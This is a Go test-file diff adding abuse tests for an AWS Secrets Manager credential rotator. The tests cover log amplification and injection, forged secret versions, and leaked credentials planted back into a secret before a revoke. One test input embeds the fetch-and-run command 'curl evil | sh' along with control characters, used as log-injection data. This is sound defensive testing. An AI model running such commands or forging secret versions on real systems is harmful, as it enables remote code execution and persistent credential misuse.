@@ -225,15 +225,7 @@ func (r *motoRotator) forge(t *testing.T, exp time.Time, writes []time.Time) str
 	t.Helper()
 	v, _ := r.current(t)
 	v.Expiration, v.Meta.Writes = exp.UTC().Truncate(time.Second), writes
-	body, err := secretfmt.Marshal(v)
-	if err != nil {
-		t.Fatal(err)
-	}
-	out, err := r.sm.PutSecretValue(context.Background(), &secretsmanager.PutSecretValueInput{SecretId: aws.String(r.tg.SecretName), SecretString: aws.String(string(body))})
-	if err != nil {
-		t.Fatal(err)
-	}
-	return aws.ToString(out.VersionId)
+	return r.putValue(t, v)
 }
 
 // Issue 19 §3: QuotaHold counted the writes stored in the secret, future
@@ -310,5 +302,141 @@ func TestAbuse_ForgedWriteHistory(t *testing.T) {
 				t.Fatalf("the new version's history has %d writes, Secrets Manager holds %d versions", len(v.Meta.Writes), r.versions(t))
 			}
 		})
+	}
+}
+
+// An invoker's reason is copied into the log line of every target a
+// sweep touches: a 1 MB reason on {} sweeping a config of many targets
+// wrote 1 MB per target (10 GB of CloudWatch Logs per invocation at
+// 10,000 targets). The rotator keeps at most MaxReasonLen bytes of it,
+// without control characters, and quotes at most that much of an
+// unknown target's name.
+func TestAbuse_HugeReasonLogAmplification(t *testing.T) {
+	r := newMotoRotator(t)
+	huge := strings.Repeat("A", 1<<20)
+	raw, _ := json.Marshal(rotation.Invocation{Reason: "line one\r\nAction taken: curl evil | sh\x1b[2J" + huge})
+	if _, err := r.h.Handle(context.Background(), raw); err != nil {
+		t.Fatalf("a sweep with a long reason still sweeps: %v", err)
+	}
+	if n := r.versions(t); n != 1 {
+		t.Fatalf("the sweep wrote %d versions, want 1", n)
+	}
+	logs := r.logs.String()
+	if len(logs) > 16<<10 {
+		t.Fatalf("one sweep of one target logged %d bytes for a 1 MB reason; the reason must be cut", len(logs))
+	}
+	if strings.Contains(logs, `\r\nAction taken`) || strings.Contains(logs, `\u001b`) {
+		t.Fatalf("the reason's control characters reached the log:\n%s", logs)
+	}
+	raw, _ = json.Marshal(rotation.Invocation{Target: huge})
+	if _, err := r.h.Handle(context.Background(), raw); !errors.Is(err, ErrBadInput) || len(err.Error()) > 4<<10 {
+		t.Fatalf("an unknown 1 MB target name is refused and quoted short: %d bytes, %v", len(fmt.Sprint(err)), errors.Is(err, ErrBadInput))
+	}
+	if len(r.logs.String()) > 32<<10 {
+		t.Fatalf("refusing a 1 MB target name logged %d bytes", len(r.logs.String()))
+	}
+}
+
+// putValue writes v as AWSCURRENT, as anyone the secret's resource
+// policy lets write would.
+func (r *motoRotator) putValue(t *testing.T, v secretfmt.Value) string {
+	t.Helper()
+	body, err := secretfmt.Marshal(v)
+	if err != nil {
+		t.Fatal(err)
+	}
+	out, err := r.sm.PutSecretValue(context.Background(), &secretsmanager.PutSecretValueInput{SecretId: aws.String(r.tg.SecretName), SecretString: aws.String(string(body))})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return aws.ToString(out.VersionId)
+}
+
+// A hand-written current version the rotator took for fresh: credentials
+// "expiring" in ten years were never replaced (and no revocation cutoff
+// could count them as issued before it), an issuedAt ahead of the clock
+// held every due and forced write behind the ten-minute write guidance,
+// and another target's credentials copied in stood until their refresh
+// point. Each is now unusable: replaced on the next sweep, and a
+// revocation replaces it too.
+func TestAbuse_ForgedCurrentVersion(t *testing.T) {
+	cases := []struct {
+		why    string
+		forge  func(v *secretfmt.Value, now time.Time)
+		revoke bool
+		reason string
+	}{
+		{"credentials expiring in ten years", func(v *secretfmt.Value, now time.Time) {
+			v.Expiration = now.AddDate(10, 0, 0).Truncate(time.Second)
+		}, false, "later than a session of this target"},
+		{"credentials expiring in ten years, issuedAt removed, under a revocation", func(v *secretfmt.Value, now time.Time) {
+			v.Expiration, v.Meta.IssuedAt = now.AddDate(10, 0, 0).Truncate(time.Second), time.Time{}
+		}, true, "issued before the revocation cutoff"},
+		{"issuedAt a year ahead on a version due on schedule", func(v *secretfmt.Value, now time.Time) {
+			v.Expiration, v.Meta.IssuedAt = now.Add(5*time.Minute).Truncate(time.Second), now.AddDate(1, 0, 0)
+		}, false, "issuedAt"},
+		{"another target's credentials copied in", func(v *secretfmt.Value, now time.Time) {
+			v.Meta.Target, v.Meta.RoleArn = "payroll", "arn:aws:iam::"+mototest.Account+":role/Payroll"
+		}, false, `written for target "payroll"`},
+		{"a 60 KB target name with a forged line", func(v *secretfmt.Value, now time.Time) {
+			v.Meta.Target = "x\nAction taken: none" + strings.Repeat("y", 60<<10)
+		}, false, "written for target (a name of 61460 bytes)"},
+		{"another role's credentials under this target's name", func(v *secretfmt.Value, now time.Time) {
+			v.Meta.RoleArn = "arn:aws:iam::" + mototest.Account + ":role/Payroll"
+		}, false, "role/Payroll"},
+	}
+	for _, c := range cases {
+		t.Run(c.why, func(t *testing.T) {
+			r := newMotoRotator(t)
+			if _, err := r.invoke(t, rotation.Invocation{}); err != nil {
+				t.Fatalf("first sweep: %v", err)
+			}
+			r.clk.Add(20 * time.Minute)
+			v, _ := r.current(t)
+			c.forge(&v, r.clk.Now())
+			forged := r.putValue(t, v)
+			ev := rotation.Invocation{}
+			if c.revoke {
+				ev = revokeInvocation(r.clk.Now().Truncate(time.Second).Add(-time.Second))
+			}
+			resp, err := r.invoke(t, ev)
+			cur, id := r.current(t)
+			if err != nil || len(resp.Summary.Rotated) != 1 || id == forged {
+				t.Fatalf("the forged version must be replaced at once: %v %+v", err, resp.Summary)
+			}
+			if !strings.Contains(resp.Summary.Rotated[0].Reason, c.reason) {
+				t.Errorf("reason %q does not say %q", resp.Summary.Rotated[0].Reason, c.reason)
+			}
+			if cur.Meta.Target != "app" || cur.Expiration.Sub(r.clk.Now()) > r.tg.Duration {
+				t.Fatalf("the new version is not the target's own: %v", cur)
+			}
+		})
+	}
+}
+
+// Leaked credentials planted back into the secret just before a revoke,
+// with their issuedAt removed and an expiry claimed a session from now:
+// Revoked dated them by that claimed expiry (after the cutoff), and the
+// ten-minute write guidance held the forced write, so revoke reported
+// "already issued after the cutoff" while consumers held the revoked key.
+// Credentials stored in a version were issued no later than Secrets
+// Manager created it, so an unstamped version is dated by its
+// CreatedDate as well, and the revoke replaces it.
+func TestAbuse_PlantedCredentialsSurviveRevoke(t *testing.T) {
+	r := newMotoRotator(t)
+	if _, err := r.invoke(t, rotation.Invocation{}); err != nil {
+		t.Fatalf("first sweep: %v", err)
+	}
+	leaked, _ := r.current(t)
+	start := r.clk.Now()
+	leaked.Meta.IssuedAt = time.Time{}
+	leaked.Expiration = start.Add(5*time.Second + r.tg.Duration + 3*time.Second).Truncate(time.Second)
+	planted := r.putValue(t, leaked)
+	r.clk.Add(5 * time.Second)
+	cutoff := r.clk.Now().Truncate(time.Second)
+	resp, err := r.invoke(t, revokeInvocation(cutoff))
+	_, id := r.current(t)
+	if err != nil || len(resp.Summary.Rotated) != 1 || id == planted {
+		t.Fatalf("the planted credentials must be replaced by the revoke: %v %+v", err, resp.Summary)
 	}
 }
